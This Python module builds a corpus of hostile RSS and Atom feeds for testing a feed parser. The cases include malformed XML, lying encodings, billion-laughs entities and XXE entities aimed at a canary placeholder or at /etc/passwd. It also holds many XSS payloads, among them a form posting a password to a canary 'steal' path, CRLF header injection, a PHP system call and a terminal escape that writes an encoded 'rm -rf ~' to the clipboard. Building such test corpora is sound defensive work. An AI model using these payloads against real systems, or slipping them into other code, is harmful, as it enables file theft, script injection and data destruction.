# ruff: noqa: E501 - corpus data: long literal payloads read better on one line
"""Hostile feeds for the corpus (issue 15): malformed XML, lying encodings, entity
blow-ups, external entities aimed at the canary, enormous fields, deep nesting and
markup in every field. ``CANARY`` stands for the canary server's origin; the corpus
server writes the real one in when it serves the file."""

from __future__ import annotations

from collections.abc import Iterator

from tests.corpora.spec import CANARY, Case

RSS = "application/rss+xml; charset=utf-8"
RSS_BARE = "application/rss+xml"
ATOM = "application/atom+xml; charset=utf-8"
XSS = "<script>alert(document.cookie)</script>"


def item(title: str, link: str, description: str = "Résumé de l'article.", extra: str = "") -> str:
    return (
        f"<item><title>{title}</title><link>{link}</link>"
        f"<description>{description}</description>{extra}</item>"
    )


def rss(
    items: str, *, head: str = '<?xml version="1.0" encoding="utf-8"?>\n', channel: str = ""
) -> str:
    return (
        f'{head}<rss version="2.0"><channel><title>Corpus</title>'
        f"<link>https://corpus.example/</link>{channel}{items}</channel></rss>"
    )


GOOD = item("Aérovolt lève 12 millions d'euros", "/a/good-1.html") + item(
    "Hélicea ouvre un site à Blagnac", "/a/good-2.html"
)


def _malformed() -> Iterator[Case]:
    good = rss(GOOD)
    yield Case(
        "malformed-bare-ampersand.xml",
        good.replace("Hélicea", "Hélicea & Co"),
        "a bare '&' in a title",
    )
    yield Case(
        "malformed-unclosed-title.xml",
        good.replace("</title><link>/a/good-2", "<link>/a/good-2"),
        "a <title> never closed",
    )
    yield Case(
        "malformed-mismatched-tags.xml",
        good.replace("</title>", "</titl>", 1),
        "an end tag that does not match",
    )
    for n, cut in enumerate((40, 120, 200, len(good) - 30)):
        yield Case(
            f"malformed-truncated-{n}.xml", good[:cut], f"the document cut after {cut} characters"
        )
    yield Case("malformed-two-roots.xml", good + good, "two root elements")
    yield Case(
        "malformed-trailing-garbage.xml",
        good + "\x00\x01garbage<<<>>>",
        "garbage after the root element",
    )
    yield Case(
        "malformed-unquoted-attributes.xml",
        good.replace('version="2.0"', "version=2.0 x=y"),
        "unquoted attributes",
    )
    yield Case(
        "malformed-duplicate-attributes.xml",
        good.replace('version="2.0"', 'version="2.0" version="3"'),
        "a duplicated attribute",
    )
    yield Case(
        "malformed-control-characters.xml",
        good.replace("Aérovolt", "Aéro\x01\x02\x0b\x1fvolt"),
        "C0 control characters XML forbids",
    )
    yield Case(
        "malformed-nul-bytes.xml",
        good.replace("12 millions", "12\x00\x00millions"),
        "NUL bytes inside text",
    )
    yield Case(
        "malformed-unterminated-cdata.xml",
        good.replace("Résumé de l'article.", "<![CDATA[never ends", 1),
        "a CDATA section never closed",
    )
    yield Case(
        "malformed-unterminated-comment.xml",
        good.replace("<channel>", "<channel><!-- never ends"),
        "a comment never closed",
    )
    yield Case(
        "malformed-nested-cdata.xml",
        good.replace("Résumé de l'article.", "<![CDATA[a <![CDATA[b]]> c]]>", 1),
        "CDATA inside CDATA",
    )
    yield Case(
        "malformed-bad-numeric-refs.xml",
        good.replace("Aérovolt", "&#0;&#xD800;&#x110000;&#99999999999;&#x;Aérovolt"),
        "numeric references to NUL, a surrogate, past U+10FFFF",
        expect_error=False,
    )
    yield Case(
        "malformed-undeclared-prefix.xml",
        good.replace("<title>Aérovolt", "<dc:creator>x</dc:creator><title>Aérovolt"),
        "an undeclared namespace prefix",
    )
    yield Case(
        "malformed-processing-instructions.xml",
        good.replace("<channel>", "<channel><?php system('id'); ?><?xml version='1.0'?>"),
        "PHP and a second XML declaration inside the document",
    )
    yield Case("malformed-empty.xml", "", "an empty body", expect_error=True)
    yield Case("malformed-whitespace.xml", " \n\t\r\n" * 200, "only whitespace", expect_error=True)
    yield Case(
        "malformed-declaration-only.xml",
        '<?xml version="1.0"?>',
        "an XML declaration and nothing else",
        expect_error=True,
    )
    yield Case(
        "malformed-binary.xml",
        bytes(range(256)) * 40,
        "binary noise served as RSS",
        expect_error=True,
    )
    yield Case(
        "malformed-json.xml",
        '{"rss": {"channel": {"item": [1, 2, 3]}}}',
        "JSON served as RSS",
        expect_error=True,
    )
    yield Case(
        "malformed-html-page.xml",
        "<!doctype html><html><body><script>alert(1)</script>Pas un flux</body></html>",
        "an HTML page served as RSS",
        expect_error=True,
    )
    yield Case(
        "malformed-tag-soup.xml",
        "<rss><channel><item><title>a<item><title>b</channel></item></rss></title>",
        "overlapping tags",
    )
    yield Case(
        "malformed-lt-in-attribute.xml",
        good.replace('version="2.0"', 'version="<2.0>"'),
        "'<' inside an attribute value",
    )
    yield Case(
        "malformed-huge-tag-name.xml",
        good.replace("<channel>", "<channel><" + "x" * 20_000 + "/>"),
        "a 20,000-character element name",
    )
    yield Case(
        "malformed-many-attributes.xml",
        good.replace(
            "<channel>", "<channel><i " + " ".join(f"a{n}='{n}'" for n in range(2_000)) + "/>"
        ),
        "2,000 attributes on one element",
    )
    yield Case(
        "malformed-bom-in-middle.xml",
        good.replace("Hélicea", "\ufeffHélicea\ufeff"),
        "byte order marks inside the text",
    )
    yield Case(
        "malformed-invalid-xml-name.xml",
        good.replace("<channel>", "<channel><1item>x</1item><-a>y</-a>"),
        "element names that are not XML names",
    )


def _encodings() -> Iterator[Case]:
    text = rss(
        item(
            "Société générale de mécanique — coût 5 € « accord »",
            "/a/enc.html",
            "Été, déjà, œuvre, naïve.",
        )
    )
    declared = lambda enc: text.replace('encoding="utf-8"', f'encoding="{enc}"')  # noqa: E731
    yield Case(
        "enc-cp1252-declared-utf8.xml",
        text.encode("cp1252"),
        "Windows-1252 bytes declared UTF-8",
        RSS,
    )
    yield Case(
        "enc-latin1-declared-utf8.xml",
        text.replace("€", "E").replace("œ", "oe").replace("—", "-").encode("latin-1"),
        "Latin-1 bytes declared UTF-8 in the XML and the HTTP header",
        RSS,
    )
    yield Case(
        "enc-utf8-declared-latin1.xml",
        declared("iso-8859-1").encode("utf-8"),
        "UTF-8 bytes declared ISO-8859-1",
        RSS_BARE,
    )
    yield Case(
        "enc-http-says-cp1252.xml",
        text.encode("utf-8"),
        "UTF-8 bytes; the HTTP header says windows-1252",
        "application/rss+xml; charset=windows-1252",
    )
    chinese = rss(
        item("台積電宣布在高雄設廠", "/a/big5.html", "新竹科學園區的半導體公司公布財報。")
    )
    yield Case(
        "enc-big5-declared.xml",
        chinese.replace('encoding="utf-8"', 'encoding="big5"').encode("big5"),
        "Big5, declared",
        RSS_BARE,
    )
    yield Case(
        "enc-big5-declared-utf8.xml", chinese.encode("big5"), "Big5 bytes declared UTF-8", RSS
    )
    korean = rss(
        item(
            "삼성전자 새로운 공장 투자 발표",
            "/a/euckr.html",
            "반도체 사업부가 신규 투자를 발표했다.",
        )
    )
    yield Case(
        "enc-euckr-declared.xml",
        korean.replace('encoding="utf-8"', 'encoding="euc-kr"').encode("euc-kr"),
        "EUC-KR, declared",
        RSS_BARE,
    )
    yield Case(
        "enc-euckr-undeclared.xml",
        korean.replace(' encoding="utf-8"', "").encode("euc-kr"),
        "EUC-KR bytes with no declaration (UTF-8 by default)",
        RSS_BARE,
    )
    japanese = rss(
        item("トヨタが新工場を発表", "/a/sjis.html", "愛知県で新しい工場の建設を始める。")
    )
    yield Case(
        "enc-shiftjis-declared-utf8.xml",
        japanese.encode("shift_jis"),
        "Shift_JIS bytes declared UTF-8",
        RSS,
    )
    yield Case(
        "enc-gb18030-declared.xml",
        chinese.replace('encoding="utf-8"', 'encoding="gb18030"').encode("gb18030"),
        "GB18030, declared",
        RSS_BARE,
    )
    russian = rss(
        item("Газпром объявил о новых инвестициях", "/a/koi8.html", "Компания построит завод.")
    )
    yield Case(
        "enc-koi8r-declared-cp1251.xml",
        russian.replace('encoding="utf-8"', 'encoding="windows-1251"').encode("koi8_r"),
        "KOI8-R bytes declared windows-1251",
        RSS_BARE,
    )
    raw = text.encode("utf-8")
    yield Case(
        "enc-invalid-utf8-bytes.xml",
        raw.replace("Société".encode(), b"Soci\xff\xfe\xc3t\xe9"),
        "bytes that are never UTF-8 (FF FE, a lone lead byte)",
        RSS,
    )
    yield Case(
        "enc-overlong-utf8.xml",
        raw.replace(b"/a/enc.html", b"/a/\xc0\xaf\xe0\x80\xafenc.html"),
        "overlong UTF-8 encodings of '/' in a link",
        RSS,
    )
    yield Case(
        "enc-encoded-surrogates.xml",
        raw.replace("Été".encode(), b"\xed\xa0\x80\xed\xbf\xbf"),
        "UTF-16 surrogates encoded in UTF-8 (CESU)",
        RSS,
    )
    yield Case(
        "enc-truncated-multibyte.xml",
        raw.replace("€".encode(), b"\xe2\x82"),
        "a multi-byte sequence cut short",
        RSS,
    )
    yield Case("enc-utf8-bom.xml", b"\xef\xbb\xbf" + raw, "a UTF-8 byte order mark", RSS)
    yield Case(
        "enc-double-bom.xml", b"\xef\xbb\xbf\xef\xbb\xbf" + raw, "two UTF-8 byte order marks", RSS
    )
    yield Case(
        "enc-utf16le-bom.xml",
        declared("utf-16").encode("utf-16"),
        "UTF-16 with its byte order mark",
        RSS_BARE,
    )
    yield Case(
        "enc-utf16be-no-bom.xml",
        declared("utf-16be").encode("utf-16-be"),
        "UTF-16BE without a byte order mark",
        RSS_BARE,
    )
    yield Case(
        "enc-utf32-bom.xml",
        declared("utf-32").encode("utf-32"),
        "UTF-32 with its byte order mark",
        RSS_BARE,
    )
    yield Case(
        "enc-bom-contradicts-declaration.xml",
        b"\xef\xbb\xbf" + declared("utf-16").encode("utf-8"),
        "a UTF-8 BOM, declared UTF-16",
        RSS_BARE,
    )
    yield Case(
        "enc-utf16-bom-declared-utf8.xml", text.encode("utf-16"), "UTF-16 bytes declared UTF-8", RSS
    )
    yield Case(
        "enc-unknown-name.xml",
        declared("x-klingon-9").encode("utf-8"),
        "an encoding name nobody knows",
        RSS_BARE,
    )
    yield Case(
        "enc-empty-name.xml", declared("").encode("utf-8"), "an empty encoding name", RSS_BARE
    )
    yield Case(
        "enc-utf7-declared.xml",
        declared("utf-7").encode("utf-8"),
        "UTF-7 declared on plain ASCII-compatible bytes",
        RSS_BARE,
    )
    yield Case(
        "enc-ebcdic-declared.xml",
        declared("cp500").encode("cp500", "replace"),
        "EBCDIC (cp500) bytes, declared",
        RSS_BARE,
    )
    yield Case(
        "enc-http-charset-bogus.xml",
        raw,
        "an HTTP charset that does not exist",
        "application/rss+xml; charset=bogus-42",
    )
    yield Case(
        "enc-mixed.xml",
        raw.replace("Été".encode(), "Été".encode("cp1252")).replace(
            "coût".encode(), "coût".encode("utf-16-le")
        ),
        "UTF-8, Windows-1252 and UTF-16 bytes in one document",
        RSS,
    )


def _entities() -> Iterator[Case]:
    laughs = '<!ENTITY lol0 "lol">\n' + "".join(
        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">\n' for n in range(1, 10)
    )
    doctype = lambda body: f'<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE rss [\n{body}]>\n'  # noqa: E731
    yield Case(
        "entity-billion-laughs.xml",
        rss(item("&lol9;", "/a/laughs.html", "&lol9;"), head=doctype(laughs)),
        "billion laughs: ten levels of ten references",
    )
    yield Case(
        "entity-billion-laughs-attribute.xml",
        rss(
            item(
                "Rire", "/a/laughs-attr.html", extra='<enclosure url="&lol9;" type="audio/mpeg"/>'
            ),
            head=doctype(laughs),
        ),
        "billion laughs inside an attribute value",
    )
    big = "A" * 10_000
    yield Case(
        "entity-quadratic.xml",
        rss(
            item("&q;" * 200, "/a/quadratic.html", "&q;" * 5_000),
            head=doctype(f'<!ENTITY q "{big}">\n'),
        ),
        "quadratic blow-up: a 10,000-character entity used 5,200 times",
    )
    yield Case(
        "entity-recursive.xml",
        rss(
            item("&a;", "/a/recursive.html", "&b;"),
            head=doctype('<!ENTITY a "&b;">\n<!ENTITY b "&a;">\n'),
        ),
        "two entities that refer to each other",
    )
    yield Case(
        "entity-parameter-nested.xml",
        rss(
            item("&x;", "/a/param.html"),
            head=doctype("<!ENTITY % p \"<!ENTITY x 'XXXX'>\">\n%p;\n"),
        ),
        "a parameter entity declaring another entity",
    )
    yield Case(
        "entity-external-system.xml",
        rss(
            item("&xxe;", "/a/xxe.html", "&xxe;"),
            head=doctype(f'<!ENTITY xxe SYSTEM "{CANARY}/xxe-system">\n'),
        ),
        "an external entity (SYSTEM) pointing at the canary",
    )
    yield Case(
        "entity-external-file.xml",
        rss(
            item("&passwd;", "/a/xxe-file.html", "&passwd;"),
            head=doctype('<!ENTITY passwd SYSTEM "file:///etc/passwd">\n'),
        ),
        "an external entity reading /etc/passwd",
        marker="root:x:0:0",
    )
    yield Case(
        "entity-external-public.xml",
        rss(
            item("&pub;", "/a/xxe-public.html"),
            head=doctype(f'<!ENTITY pub PUBLIC "-//X//Y" "{CANARY}/xxe-public">\n'),
        ),
        "an external entity (PUBLIC) pointing at the canary",
    )
    yield Case(
        "entity-external-parameter.xml",
        rss(
            item("Paramètre", "/a/xxe-param.html"),
            head=doctype(f'<!ENTITY % remote SYSTEM "{CANARY}/xxe-parameter">\n%remote;\n'),
        ),
        "an external parameter entity pulled in by %remote;",
    )
    yield Case(
        "entity-external-dtd.xml",
        '<?xml version="1.0" encoding="utf-8"?>\n'
        + f'<!DOCTYPE rss SYSTEM "{CANARY}/external.dtd">\n'
        + rss(GOOD, head=""),
        "an external DTD on the canary",
    )
    yield Case(
        "entity-external-dtd-public.xml",
        '<?xml version="1.0"?>\n'
        + f'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "{CANARY}/rss-0.91.dtd">\n'
        + rss(GOOD, head=""),
        "RSS 0.91's PUBLIC DTD, its address on the canary",
    )
    yield Case(
        "entity-xinclude.xml",
        rss(
            item(
                "XInclude",
                "/a/xinclude.html",
                extra=f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{CANARY}/xinclude"/>',
            )
        ),
        "an XInclude of the canary",
    )
    yield Case(
        "entity-stylesheet-pi.xml",
        rss(
            GOOD,
            head=f'<?xml version="1.0" encoding="utf-8"?>\n<?xml-stylesheet type="text/xsl" href="{CANARY}/style.xsl"?>\n',
        ),
        "an xml-stylesheet instruction on the canary",
    )
    yield Case(
        "entity-schema-location.xml",
        rss(GOOD).replace(
            '<rss version="2.0">',
            f'<rss version="2.0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x {CANARY}/schema.xsd">',
        ),
        "an xsi:schemaLocation on the canary",
    )
    yield Case(
        "entity-undefined.xml",
        rss(item("&undefined; &nbsp;&eacute;&hellip;", "/a/undef.html", "&notdeclared;")),
        "undefined entities and HTML entity names",
    )
    yield Case(
        "entity-doctype-unterminated.xml",
        '<?xml version="1.0"?>\n<!DOCTYPE rss [\n<!ENTITY a "b">\n' + rss(GOOD, head=""),
        "a DOCTYPE whose internal subset never ends",
        expect_error=True,
    )
    yield Case(
        "entity-doctype-after-root.xml",
        rss(GOOD).replace("<channel>", '<channel><!DOCTYPE x [<!ENTITY y "zzzz">]>'),
        "a DOCTYPE inside the document",
    )
    many = "".join(f'<!ENTITY e{n} "{n}">\n' for n in range(1_000))
    yield Case(
        "entity-thousand-declarations.xml",
        rss(item("&e1;&e999;", "/a/many.html"), head=doctype(many)),
        "1,000 entity declarations",
    )


def _enormous() -> Iterator[Case]:
    yield Case(
        "huge-title.xml",
        rss(item("Titre " * 3_000, "/a/huge-title.html")),
        "an 18,000-character title",
    )
    yield Case(
        "huge-attribute.xml",
        rss(
            item(
                "Pièce jointe",
                "/a/huge-attr.html",
                extra=f'<enclosure url="https://corpus.example/{"x" * 20_000}" length="1" type="audio/mpeg"/>',
            )
        ),
        "a 20,000-character attribute",
    )
    yield Case(
        "huge-link.xml",
        rss(item("Lien", "/a/" + "l" * 20_000 + ".html")),
        "a 20,000-character link",
    )
    yield Case(
        "huge-author.xml",
        rss(item("Auteur", "/a/huge-author.html", extra=f"<author>{'Jean ' * 4_000}</author>")),
        "a 20,000-character author",
    )
    yield Case(
        "huge-guid.xml",
        rss(item("Guid", "/a/huge-guid.html", extra=f"<guid>{'g' * 20_000}</guid>")),
        "a 20,000-character guid",
    )
    yield Case(
        "huge-categories.xml",
        rss(
            item(
                "Catégories",
                "/a/huge-cat.html",
                extra="".join(f"<category>c{n}</category>" for n in range(1_000)),
            )
        ),
        "1,000 categories on one entry",
    )
    yield Case(
        "huge-channel-title.xml",
        rss(GOOD).replace("<title>Corpus</title>", f"<title>{'Chaîne ' * 3_000}</title>", 1),
        "a 21,000-character channel title",
    )
    yield Case(
        "huge-words.xml",
        rss(item("Mot", "/a/huge-word.html", "x" * 20_000)),
        "one 20,000-character word",
    )
    yield Case(
        "huge-whitespace.xml",
        rss(item("Espaces" + " " * 10_000 + "fin", "/a/huge-space.html", "\n" * 10_000)),
        "10,000 spaces in a title, 10,000 newlines in a description",
    )
    many = "".join(item(f"Entrée {n}", f"/a/many-{n}.html", "") for n in range(300))
    yield Case(
        "many-entries-300.xml",
        rss(many),
        "300 entries (the 100,000-entry feed is generated at test time)",
    )
    yield Case(
        "many-duplicate-links.xml",
        rss("".join(item(f"Doublon {n}", "/a/same.html") for n in range(200))),
        "200 entries with one link",
    )


def _nested() -> Iterator[Case]:
    deep = "<div>" * 2_000 + "profond" + "</div>" * 2_000
    yield Case(
        "nested-html-in-description.xml",
        rss(item("Profond", "/a/deep-html.html", f"<![CDATA[{deep}]]>")),
        "2,000 nested <div> in a description",
    )
    yield Case(
        "nested-escaped-html.xml",
        rss(
            item(
                "Profond échappé",
                "/a/deep-escaped.html",
                deep.replace("<", "&lt;").replace(">", "&gt;"),
            )
        ),
        "2,000 nested escaped <div>",
    )
    yield Case(
        "nested-xml-elements.xml",
        rss(item("XML profond", "/a/deep-xml.html", extra="<x>" * 5_000 + "</x>" * 5_000)),
        "5,000 nested XML elements inside an item",
    )
    yield Case(
        "nested-unclosed.xml",
        rss(item("Jamais fermé", "/a/deep-unclosed.html", extra="<x>" * 5_000)),
        "5,000 nested elements never closed",
    )
    yield Case(
        "nested-title-markup.xml",
        rss(item("&lt;b&gt;" * 3_000 + "gras", "/a/deep-title.html")),
        "3,000 nested escaped <b> in a title",
    )
    yield Case(
        "nested-items.xml",
        rss(
            "<item>" * 3_000 + "<title>x</title><link>/a/deep-items.html</link>" + "</item>" * 3_000
        ),
        "3,000 items nested inside each other",
    )


def _markup() -> Iterator[Case]:
    js = "javascript:alert(1)"
    payloads = {
        "script": XSS,
        "img-onerror": "<img src=x onerror=alert(1)>",
        "svg-onload": "<svg onload=alert(1)><circle r=1 /></svg>",
        "iframe": f"<iframe src='{CANARY}/iframe'></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "js-link": f"<a href='{js}'>clic</a><a href='JaVaScRiPt:alert(2)'>x</a><a href='&#106;avascript:alert(3)'>y</a>",
        "obfuscated-js": "<a href='java\tscript:alert(1)'>a</a><a href=' javascript:alert(1)'>b</a><a href='vbscript:msgbox(1)'>c</a>",
        "data-uri": "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>d</a><img src='data:image/svg+xml,<svg onload=alert(1)>'>",
        "style": "<style>body{background:url(javascript:alert(1))}</style><p style='x:expression(alert(1))'>css</p>",
        "meta-refresh": f"<meta http-equiv='refresh' content='0;url={CANARY}/refresh'><base href='{CANARY}/'>",
        "form": f"<form action='{CANARY}/steal'><input name=p type=password autofocus onfocus=alert(1)></form>",
        "object-embed": f"<object data='{CANARY}/obj'></object><embed src='{CANARY}/embed'><applet code=x></applet>",
        "event-handlers": "<p onclick=alert(1) onmouseover=alert(2) ONLOAD=alert(3)>survol</p><body onload=alert(4)>",
        "template-noscript": "<template><script>alert(1)</script></template><noscript><img src=x onerror=alert(1)></noscript>",
        "broken-tags": "<scr<script>ipt>alert(1)</scr</script>ipt><<script>alert(2)//<</script>",
        "mathml": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "comment-trick": "<!--<img src=x onerror=alert(1)>--><!--[if IE]><script>alert(1)</script><![endif]-->",
        "remote-resources": f"<img src='{CANARY}/pixel.gif'><link rel=stylesheet href='{CANARY}/s.css'><script src='{CANARY}/s.js'></script>",
    }
    for name, payload in payloads.items():
        escaped = payload.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        yield Case(
            f"markup-{name}-description.xml",
            rss(item(f"Balisage {name}", f"/a/markup-{name}.html", f"<![CDATA[{payload}]]>")),
            f"{name} in a description (CDATA)",
        )
        yield Case(
            f"markup-{name}-title.xml",
            rss(item(escaped, f"/a/markup-{name}-t.html", escaped)),
            f"{name} in a title and a description (escaped)",
        )
    yield Case(
        "markup-every-field.xml",
        rss(
            item(
                XSS,
                f"/a/{'%3Cscript%3E'}.html",
                f"<![CDATA[{XSS}]]>",
                extra=f"<author>{XSS.replace('<', '&lt;')}</author><category>{XSS.replace('<', '&lt;')}</category><comments>{js}</comments><source url='{js}'>x</source><enclosure url='{js}' type='text/html'/><guid>{js}</guid>",
            ),
            channel=f"<image><url>{js}</url></image><description>{XSS.replace('<', '&lt;')}</description>",
        ),
        "a script in every RSS field",
    )
    yield Case(
        "markup-js-item-links.xml",
        rss(
            item("Lien JS", js)
            + item("Lien vbscript", "vbscript:msgbox(1)")
            + item("Lien data", "data:text/html,<script>alert(1)</script>".replace("<", "&lt;"))
            + GOOD
        ),
        "javascript:, vbscript: and data: item links",
    )
    yield Case(
        "markup-canary-item-links.xml",
        rss(
            item("Canari", f"{CANARY}/learned-link")
            + item(
                "Canari 2", f"{CANARY}/learned-link-2", f"<![CDATA[<img src='{CANARY}/pixel'>]]>"
            )
            + GOOD
        ),
        "item links to the canary (learned links are never fetched there)",
    )
    atom = (
        '<?xml version="1.0" encoding="utf-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom">'
        f"<title type='html'>{XSS.replace('<', '&lt;')}</title><id>urn:x</id><updated>2026-10-01T10:00:00Z</updated>"
        f"<entry><title type='xhtml'><div xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script>Titre</div></title>"
        f"<link href='{js}'/><link rel='alternate' href='/a/atom-xhtml.html'/><id>/a/atom-xhtml.html</id><updated>2026-10-01T10:00:00Z</updated>"
        f"<content type='xhtml'><div xmlns='http://www.w3.org/1999/xhtml'><p onclick='alert(1)'>Texte</p><a href='{js}'>x</a></div></content>"
        f"<author><name>{XSS.replace('<', '&lt;')}</name><uri>{js}</uri></author></entry></feed>"
    )
    yield Case("markup-atom-xhtml.xml", atom, "Atom xhtml title and content carrying scripts", ATOM)
    yield Case(
        "markup-header-injection.xml",
        rss(
            item(
                "Titre&#13;&#10;Bcc: victim@example.com&#13;&#10;&#13;&#10;corps",
                "/a/crlf.html",
                "Résumé&#13;&#10;To: x@example.com",
            )
        ),
        "CR LF and mail headers in a title",
    )
    yield Case(
        "markup-terminal-escapes.xml",
        rss(
            item(
                "\x1b[31mRouge\x1b[0m \x1b]0;titre\x07 \u202egnp.exe\u200b\u2028",
                "/a/escapes.html",
                "\x1b]52;c;cm0gLXJmIH4=\x07",
            )
        ),
        "terminal escapes, RTL override and line separators",
    )
    yield Case(
        "markup-relative-links.xml",
        rss(
            item("Relatif", "../../../../etc/passwd")
            + item("Sans schéma", f"//127.0.0.1:{1}/x")
            + item("Espaces", "/a/with space.html")
            + GOOD
        ),
        "relative, scheme-relative and spaced links",
    )


def _variants() -> Iterator[Case]:
    rdf = (
        '<?xml version="1.0"?><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
        'xmlns="http://purl.org/rss/1.0/"><channel rdf:about="x"><title>RDF</title></channel>'
        f"<item rdf:about='/a/rdf.html'><title>{XSS.replace('<', '&lt;')}</title><link>/a/rdf.html</link></item></rdf:RDF>"
    )
    yield Case(
        "variant-rss1-rdf.xml", rdf, "RSS 1.0 (RDF) with a script title", "application/rdf+xml"
    )
    yield Case(
        "variant-json-feed.json",
        '{"version":"https://jsonfeed.org/version/1","items":[{"id":"1","url":"javascript:alert(1)","title":"<script>"}]}',
        "a JSON Feed (not read as a feed)",
        "application/feed+json",
        expect_error=True,
    )
    yield Case(
        "variant-rss-0.91.xml", rss(GOOD).replace('version="2.0"', 'version="0.91"'), "RSS 0.91"
    )
    yield Case(
        "variant-atom-no-links.xml",
        '<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>x</title>'
        + "<entry><title>sans lien</title><id>urn:1</id></entry>" * 5
        + "</feed>",
        "Atom entries without links",
        ATOM,
    )
    yield Case(
        "variant-dates.xml",
        rss(
            item(
                "Dates",
                "/a/dates.html",
                extra="<pubDate>Mon, 99 Foo 99999 25:61:61 +9999</pubDate>",
            )
            + item("Dates 2", "/a/dates2.html", extra="<pubDate>-0001-01-01T00:00:00Z</pubDate>")
            + item("Dates 3", "/a/dates3.html", extra="<pubDate>" + "9" * 5_000 + "</pubDate>")
        ),
        "impossible and enormous dates",
    )
    yield Case(
        "variant-wrong-namespace.xml",
        rss(GOOD).replace("<rss", '<rss xmlns="urn:not-rss"'),
        "RSS elements in a foreign namespace",
    )


def feed_cases() -> Iterator[Case]:
    for group in (_malformed, _encodings, _entities, _enormous, _nested, _markup, _variants):
        yield from group()
